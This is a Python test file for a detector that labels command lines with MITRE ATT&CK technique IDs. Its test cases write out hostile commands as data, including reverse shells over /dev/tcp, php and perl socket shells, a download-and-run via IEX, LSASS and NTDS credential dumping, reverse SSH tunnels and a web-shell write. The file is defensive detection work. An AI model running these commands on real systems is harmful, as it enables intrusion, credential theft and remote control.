"""Executions get the ATT&CK ids that the table's own examples promise, and nothing hangs on hostile text."""

import re
import time

import pytest

from longtail.prevalence.techniques import TECHNIQUES, TITLES, Technique, techniques


def program(row: Technique) -> str:
    return row.example.split()[0]


@pytest.mark.parametrize("row", TECHNIQUES, ids=lambda row: f"{row.id} {program(row)}")
def test_every_rows_example_gets_its_id(row: Technique) -> None:
    for name in (program(row), program(row) + ".exe", program(row).upper() + ".EXE"):
        assert row.id in techniques(name, row.example)
        assert row.id in techniques(name, row.example.upper())


@pytest.mark.parametrize("row", TECHNIQUES, ids=lambda row: f"{row.id} {program(row)}")
def test_every_row_is_well_formed_and_its_example_is_of_its_own_programs(row: Technique) -> None:
    assert re.fullmatch(r"T\d{4}(\.\d{3})?", row.id)
    assert row.programs == "*" or program(row) in row.programs.split()
    words = re.sub(r"\\[SDW]", "", row.told)
    assert row.programs == row.programs.lower() and words == words.lower()
    assert (row.programs == "*") == bool(row.hints)
    assert not row.hints or any(hint in row.example.lower() for hint in row.hints.split())
    assert TITLES[row.id]


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("sqlservr.exe", "sqlservr.exe -sMSSQLSERVER"),
        ("net.exe", "net start mssqlserver"),
        ("reg.exe", "reg query hklm"),
        ("reg.exe", r"reg save HKLM\SOFTWARE\Contoso D:\backup\system.hiv"),
        ("reg.exe", r"reg export HKLM\SYSTEM\CurrentControlSet\Services\x x.reg"),
        ("sc.exe", "sc query"),
        ("", ""),
        ("certutil.exe", "certutil -dump a.cer"),
        ("ssh", "ssh -p 22 -l deploy app01 uptime"),
        ("sqlcmd.exe", "sqlcmd -S . -i -c cmdfile.sql -t 30"),
        ("perl", "perl /usr/share/munin/plugin.pl"),
        ("java", "java -jar client.jar -D1"),
        ("cp", "cp -r build/. /srv/app"),
        ("find", "find /var/log -perm 644 -mtime +7"),
        ("vssadmin.exe", "vssadmin list writers"),
        ("svc.exe", "svc client https://intranet:8443 --verbose"),
    ],
)
def test_ordinary_commands_have_no_technique(name: str, line: str) -> None:
    assert techniques(name, line) == ()


@pytest.mark.parametrize(
    ("name", "line", "expected"),
    [
        ("upd.exe", r"C:\Windows\Temp\upd.exe client 203.0.113.4:8443 R:socks", {"T1572", "T1090"}),
        ("ssh", "ssh -N -R 10443:localhost:443 u@203.0.113.4", {"T1572"}),
        ("ssh", "ssh -fND 1080 u@203.0.113.4", {"T1572"}),
        ("cloudflared", "cloudflared tunnel --url http://localhost:3389", {"T1572"}),
        ("gp.exe", r'C:\Windows\Temp\gp.exe -cmd "cmd /c whoami"', {"T1134.001"}),
        ("jp.exe", r"jp.exe -l 1337 -p c:\windows\system32\cmd.exe -t * -c {4991d34b}", {"T1134.001"}),
        ("bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.4/443 0>&1'", {"T1059.004", "T1095"}),
        ("php", 'php -r \'$s=fsockopen("203.0.113.4",443);exec("sh <&3");\'', {"T1059", "T1095"}),
        ("perl", "perl -MIO -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);'", {"T1059", "T1095"}),
        ("sqlps.exe", "SQLPS.exe -c IEX(iwr http://203.0.113.4/a)", {"T1059.001", "T1105"}),
        ("ntdsutil.exe", 'ntdsutil "ac i ntds" ifm "create full c:\\x" q q', {"T1003.003"}),
        ("rundll32.exe", r"rundll32 C:\windows\System32\comsvcs.dll, #24 612 C:\x.dmp full", {"T1003.001"}),
        ("wget", "wget 203.0.113.4/x.sh", {"T1105"}),
        ("svchost.exe", r"svchost.exe copy D:\backup mega:x --transfers 12", {"T1567.002"}),
        ("cmd.exe", r'cmd /c echo ^<% %^> > "C:\inetpub\wwwroot\aspnet_client\a.aspx"', {"T1505.003"}),
        ("7z.exe", r"7z.exe a -pX C:\x.7z D:\backup", {"T1560.001"}),
    ],
)
def test_what_intruders_are_known_to_do_is_named(name: str, line: str, expected: set[str]) -> None:
    assert expected <= set(techniques(name, line))


def test_each_id_is_named_once_in_a_settled_order() -> None:
    found = techniques("bitsadmin.exe", r"bitsadmin /transfer n http://1.2.3.4/a \\srv\b")
    assert found == ("T1197", "T1105")


@pytest.mark.parametrize(
    "line",
    [
        "user " * 20_000,
        "/add" * 25_000,
        "> wwwroot .aspx0" * 600,
        "-p x " * 2_000 + "potato socket ",
        "stop sysmon" * 900,
        "group " * 20_000,
        "a" * 100_000,
        "\ud800" * 1000,
        " -e" * 33_000,
    ],
)
def test_a_hostile_line_takes_no_time(line: str) -> None:
    started = time.process_time()
    for name in sorted({program for row in TECHNIQUES for program in row.programs.split()}):
        techniques(name, line)
    assert time.process_time() - started < 15
